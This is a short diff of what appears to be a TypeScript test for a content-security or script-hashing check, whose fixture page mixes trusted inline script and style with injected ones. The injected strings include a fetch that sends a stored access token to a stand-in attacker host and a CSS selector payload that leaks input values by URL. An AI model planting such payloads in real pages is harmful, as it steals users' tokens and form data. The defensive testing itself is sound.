@@ -8,7 +8,7 @@ const own = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
 const ownStyle = "body{color:#111}";
 const foreignStyle = "input[value^=a]{background:url(https://evil.example/a)}";
-const origins = { images: ["https://pictures.example"], payment: noOrigins, api: [] };
+const origins = { images: ["https://pictures.example"], payment: noOrigins };
 const page = `<html><style id="theme">${ownStyle}</style><style>${foreignStyle}</style><script>${own}</script><script>${foreign}</script><script src="/a.js"></script></html>`;
 
 function hashOf(script: string): string {
